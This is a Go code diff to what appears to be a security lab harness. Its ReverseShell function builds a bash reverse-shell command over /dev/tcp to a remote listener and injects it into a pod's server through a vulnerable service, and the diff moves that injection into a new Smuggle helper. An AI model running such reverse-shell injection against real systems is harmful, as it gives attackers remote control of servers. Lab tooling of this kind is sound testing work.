@@ -38,7 +38,7 @@ func (l *Lab) Listener(ctx context.Context) (string, error) {
 // listener, as an attacker would: through the hole in the service.
 func (l *Lab) ReverseShell(ctx context.Context, pod, remote string) (Attack, error) {
 	command := fmt.Sprintf("exec bash -c 'exec bash -i >/dev/tcp/%s/%d 2>&1 <&1'", remote, port)
-	if _, err := l.Run(ctx, pod, "bash", "-c", post, "post", command); err != nil {
+	if err := l.Smuggle(ctx, pod, command); err != nil {
 		return Attack{}, err
 	}
 	var found string
@@ -51,6 +51,12 @@ func (l *Lab) ReverseShell(ctx context.Context, pod, remote string) (Attack, err
 		return Attack{}, err
 	}
 	return l.describe(ctx, pod, remote, strings.Fields(found))
+}
+
+// Smuggle makes the pod's server run a shell command, which goes on by itself.
+func (l *Lab) Smuggle(ctx context.Context, pod, command string) error {
+	_, err := l.Run(ctx, pod, "bash", "-c", post, "post", command)
+	return err
 }
 
 // post sends its argument to the server as a request.
